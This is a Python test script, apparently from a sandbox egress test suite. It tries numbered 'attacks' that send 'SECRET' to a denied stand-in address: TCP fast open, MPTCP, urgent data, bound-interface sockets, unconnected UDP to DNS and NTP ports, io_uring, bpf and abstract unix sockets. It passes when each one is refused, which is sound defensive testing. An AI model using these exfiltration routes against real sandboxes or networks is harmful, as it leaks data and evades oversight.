#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Ways to send that differ below HTTP, each to a denied address: fast open, MPTCP, unconnected and
batched datagrams, urgent data, io_uring, raw and packet sockets. Prints TAP points: what counts
here is that nothing answers; that nothing arrives is the sniffer's to say."""
import ctypes
import errno
import socket
import sys
import threading

from points import plan, point

EVIL4, EVIL6 = sys.argv[1:3]
LIBC = ctypes.CDLL(None, use_errno=True)


def closed(what, fn):
    try:
        got = fn()
        point(not got, what if not got else "%s: %r" % (what, got))
    except OSError as e:
        point(e.errno != errno.ETIMEDOUT and not isinstance(e, TimeoutError), "%s (%s)" % (what, e.strerror))


def stream(family, address, proto=0, option=None):
    s = socket.socket(family, socket.SOCK_STREAM, proto)
    s.settimeout(20)
    if option:
        s.setsockopt(*option)
    s.connect((address, 443))
    s.sendall(b"SECRET")
    return s.recv(10) or "connected"


def fast_open(family, address):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(20)
    s.sendto(b"SECRET", 0x20000000, (address, 443))
    return s.recv(10) or "connected"


def urgent(family, address):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(20)
    s.connect((address, 80))
    s.send(b"S", socket.MSG_OOB)
    return s.recv(10)


def datagrams(family, address, port):
    """Unconnected: the refusal is an error on a connected twin, here only silence is wanted."""
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(0.5)
    for how in (lambda: s.sendto(b"SECRET", (address, port)),
                lambda: s.sendmsg([b"SEC", b"RET"], [], 0, (address, port))):
        try:
            how()
        except OSError:
            pass
    try:
        return s.recv(100)
    except OSError:
        return None


def simultaneous(family, address):
    """A SYN from a listening port to meet a SYN: both directions at once open nothing."""
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(20)
    s.bind(("", 443))
    s.connect((address, 443))
    return "connected"


def flood(family, address):
    """Many at once: the refusals still come at once, for each."""
    failed = []

    def one():
        try:
            stream(family, address)
        except TimeoutError:
            failed.append("timeout")
        except OSError:
            return
        else:
            failed.append("connected")
    threads = [threading.Thread(target=one) for _ in range(100)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return "connected" if "connected" in failed else None


def passes(family):
    """The twin: without it, nothing said below that an address is denied."""
    address = socket.getaddrinfo("api.openai.com", 443, family)[0][4]
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(20)
        s.connect(address)
    return True


for family, address, v in ((socket.AF_INET, EVIL4, "IPv4"), (socket.AF_INET6, EVIL6, "IPv6")):
    point(passes(family), "an allowed address, %s" % v)
    closed("attack 74: TCP fast open, %s" % v, lambda: fast_open(family, address))
    closed("attack 74: MPTCP, %s" % v, lambda: stream(family, address, 262))
    closed("attack 74: urgent data, %s" % v, lambda: urgent(family, address))
    closed("attack 74: simultaneous open, %s" % v, lambda: simultaneous(family, address))
    closed("attack 54: a socket bound to the interface, %s" % v, lambda: stream(
        family, address, 0, (socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0\0")))
    for port in (443, 853, 53, 5353, 5355, 137, 123):
        closed("attack 71: unconnected datagrams to port %d, %s" % (port, v), lambda: datagrams(family, address, port))
    closed("a hundred connections at once, %s" % v, lambda: flood(family, address))

LIBC.syscall.restype = ctypes.c_long
point(LIBC.syscall(425, 8, ctypes.create_string_buffer(256)) < 0, "attack 73: io_uring is not to be had")
point(LIBC.syscall(321, 0, ctypes.create_string_buffer(128), 128) < 0, "bpf is not to be had")
for name in ("\0exeat-outside",):
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(name)
        point(False, "attack 75: an abstract unix socket of the outside")
    except OSError:
        point(True, "attack 75: an abstract unix socket of the outside")
plan()
